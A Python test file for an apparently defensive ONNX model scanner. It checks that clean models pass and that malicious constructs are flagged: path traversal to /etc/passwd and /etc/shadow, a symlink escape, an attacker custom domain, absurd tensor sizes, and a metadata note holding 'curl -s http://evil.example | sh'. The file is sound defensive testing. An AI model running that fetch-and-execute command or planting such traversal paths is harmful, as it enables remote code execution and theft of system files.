"""ONNX scanner: real models are clean; traversal, custom domains and absurd sizes are findings."""

from __future__ import annotations

import contextlib
import io
from pathlib import Path

import numpy as np
import onnx
from hypothesis import given, settings
from hypothesis import strategies as st
from onnx import TensorProto, helper, numpy_helper

import mlwarden
from mlwarden.artifacts.artifact import Artifact
from mlwarden.artifacts.formats import Format
from mlwarden.core.errors import BudgetExceeded
from mlwarden.core.findings import Finding
from mlwarden.scanners.base import ScanContext
from mlwarden.scanners.onnx_model import OnnxScanner, external_path_problem
from mlwarden.scanners.protobuf_wire import WireReader


def _scan_bytes(data: bytes, fs_path: Path | None = None) -> list[Finding]:
    artifact = Artifact(
        path="model.onnx", format=Format.ONNX, size=len(data), opener=lambda: io.BytesIO(data), fs_path=fs_path
    )
    return list(OnnxScanner().scan(artifact, ScanContext()))


def _scan_path(path: Path) -> list[Finding]:
    return _scan_bytes(path.read_bytes(), fs_path=path)


def _model(nodes: list[onnx.NodeProto] | None = None, **kwargs: object) -> onnx.ModelProto:
    weight = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), name="W")
    nodes = nodes or [helper.make_node("MatMul", ["X", "W"], ["Y"]), helper.make_node("Relu", ["Y"], ["Z"])]
    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Z", TensorProto.FLOAT, [1, 4])],
        initializer=[weight],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], **kwargs)  # type: ignore[arg-type]


def _rules(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


def test_real_models_are_clean(tmp_path: Path) -> None:
    model = _model()
    onnx.checker.check_model(model)
    assert _scan_bytes(model.SerializeToString()) == []
    ml = _model(
        nodes=[
            helper.make_node("MatMul", ["X", "W"], ["Y"]),
            helper.make_node("Gelu", ["Y"], ["Z"], domain="com.microsoft"),
        ]
    )
    ml.opset_import.append(helper.make_opsetid("com.microsoft", 1))
    assert _scan_bytes(ml.SerializeToString()) == []


def test_real_external_data_is_clean(tmp_path: Path) -> None:
    model = _model()
    path = tmp_path / "model.onnx"
    onnx.save_model(
        model,
        str(path),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    assert (tmp_path / "weights.bin").exists()
    assert _scan_path(path) == []


def test_subgraph_and_local_function_are_clean() -> None:
    then_graph = helper.make_graph(
        [helper.make_node("Relu", ["X"], ["T"])],
        "then",
        [],
        [helper.make_tensor_value_info("T", TensorProto.FLOAT, [1, 4])],
    )
    else_graph = helper.make_graph(
        [helper.make_node("Neg", ["X"], ["E"])],
        "else",
        [],
        [helper.make_tensor_value_info("E", TensorProto.FLOAT, [1, 4])],
    )
    func = helper.make_function(
        "local.fn", "Double", ["A"], ["B"], [helper.make_node("Add", ["A", "A"], ["B"])], [helper.make_opsetid("", 17)]
    )
    nodes = [
        helper.make_node("Constant", [], ["C"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
        helper.make_node("If", ["C"], ["Y"], then_branch=then_graph, else_branch=else_graph),
        helper.make_node("Double", ["Y"], ["Z"], domain="local.fn"),
    ]
    model = _model(nodes=nodes, functions=[func])
    model.opset_import.append(helper.make_opsetid("local.fn", 1))
    assert _scan_bytes(model.SerializeToString()) == []


def _external(location: str) -> onnx.ModelProto:
    model = _model()
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    return model


def test_external_data_traversal_cve_2022_25882() -> None:
    for location, word in (
        ("../../etc/passwd", ".."),
        ("/etc/shadow", "absolute"),
        ("C:\\Windows\\win.ini", "absolute"),
        ("file:///etc/passwd", "URL"),
    ):
        findings = _scan_bytes(_external(location).SerializeToString())
        assert _rules(findings) == {"MW-ONNX-002"}, location
        assert word in findings[0].message


def test_traversal_in_a_model_with_reordered_fields_is_found(tmp_path: Path) -> None:
    # Protobuf parsers accept fields in any order: ir_version written last still loads, and a sniffer that
    # wants the 0x08 tag first would not call the file ONNX at all.
    data = _external("../../../etc/passwd").SerializeToString()
    assert data[0] == 0x08 and data[1] < 0x80
    path = tmp_path / "model.onnx"
    path.write_bytes(data[2:] + data[:2])
    assert onnx.load_from_string(path.read_bytes()).ir_version == data[1]  # parses; external data not read
    findings = [f for f in mlwarden.scan([path]).findings if f.rule_id == "MW-ONNX-002"]
    assert findings and "../../../etc/passwd" in findings[0].message


def test_external_data_symlink_escape(tmp_path: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    model_dir = tmp_path / "model"
    model_dir.mkdir()
    (model_dir / "weights.bin").symlink_to(outside)
    path = model_dir / "model.onnx"
    path.write_bytes(_external("weights.bin").SerializeToString())
    findings = _scan_path(path)
    assert _rules(findings) == {"MW-ONNX-002"} and "symlink" in findings[0].message
    assert external_path_problem("weights.bin", None) == ""


def test_custom_domain_is_flagged_once_per_domain() -> None:
    nodes = [
        helper.make_node("MatMul", ["X", "W"], ["Y"]),
        helper.make_node("EvilOp", ["Y"], ["Y2"], domain="com.attacker"),
        helper.make_node("OtherOp", ["Y2"], ["Z"], domain="com.attacker"),
    ]
    model = _model(nodes=nodes)
    model.opset_import.append(helper.make_opsetid("com.attacker", 1))
    findings = _scan_bytes(model.SerializeToString())
    assert _rules(findings) == {"MW-ONNX-003"} and len(findings) == 1
    assert "com.attacker" in findings[0].message and "EvilOp" in findings[0].message


def test_absurd_dims_and_metadata() -> None:
    model = _model()
    big = model.graph.initializer.add()
    big.name, big.data_type = "huge", TensorProto.FLOAT
    big.dims.extend([1 << 20, 1 << 20])
    neg = model.graph.initializer.add()
    neg.name, neg.data_type = "neg", TensorProto.FLOAT
    neg.dims.extend([-5, 2])
    helper.set_model_props(model, {"note": "run curl -s http://evil.example | sh"})
    findings = _scan_bytes(model.SerializeToString())
    assert sorted(f.rule_id for f in findings) == ["MW-ONNX-004", "MW-ONNX-004", "MW-ONNX-005"]


def test_malformed_protobuf() -> None:
    data = _model().SerializeToString()
    for broken in (data[: len(data) // 2], b"\x3a\xff\xff\xff\xff\x0f", b"\x08" + b"\xff" * 11, b"\x0b\x00"):
        findings = _scan_bytes(broken)
        assert _rules(findings) == {"MW-ONNX-001"}, broken
        assert findings[0].message.startswith("cannot parse as ONNX")


def _len_field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def test_deep_nesting_is_bounded() -> None:
    graph = _len_field(1, _len_field(4, b"Relu"))  # GraphProto{node{op_type}}
    for _ in range(60):  # graph -> node -> attribute -> g -> ...
        graph = _len_field(1, _len_field(5, _len_field(6, graph)))
    findings = _scan_bytes(_len_field(7, graph))
    assert _rules(findings) == {"MW-ONNX-001"} and "nested" in findings[0].message


def test_reader_packed_ints() -> None:
    tensor = helper.make_tensor("t", TensorProto.FLOAT, [2, 3], [0.0] * 6)
    data = tensor.SerializeToString()
    reader = WireReader(io.BytesIO(data), len(data))
    dims = [v for f in reader.fields(0, len(data)) if f.number == 1 for v in reader.ints(f)]
    assert dims == [2, 3]


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_fuzz_arbitrary_bytes(data: bytes) -> None:
    with contextlib.suppress(BudgetExceeded):
        _scan_bytes(data)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_fuzz_mutated_model(data: st.DataObject) -> None:
    base = bytearray(_external("w.bin").SerializeToString())
    for _ in range(data.draw(st.integers(1, 6))):
        base[data.draw(st.integers(0, len(base) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(BudgetExceeded):
        _scan_bytes(bytes(base[: data.draw(st.integers(0, len(base)))]))
